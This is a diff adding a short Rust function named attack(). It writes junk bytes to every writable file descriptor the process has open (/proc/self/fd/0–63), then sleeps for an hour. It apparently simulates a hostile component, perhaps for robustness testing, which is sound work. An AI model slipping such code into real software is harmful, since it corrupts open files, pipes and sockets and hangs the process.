@@ -1,0 +1,16 @@
+
+/// Everything that this process has open, to write to.
+fn open() -> impl Iterator<Item = std::fs::File> {
+    let open = (0..64).map(|number| format!("/proc/self/fd/{number}"));
+    open.filter_map(|path| std::fs::OpenOptions::new().write(true).open(path).ok())
+}
+fn attack() {
+    use std::io::Write;
+    static ONCE: std::sync::Once = std::sync::Once::new();
+    ONCE.call_once(|| {
+        for mut file in open() {
+            file.write_all(&[200, 0, 0, 0, 1, 2]).ok();
+        }
+        std::thread::sleep(std::time::Duration::from_secs(3600));
+    });
+}
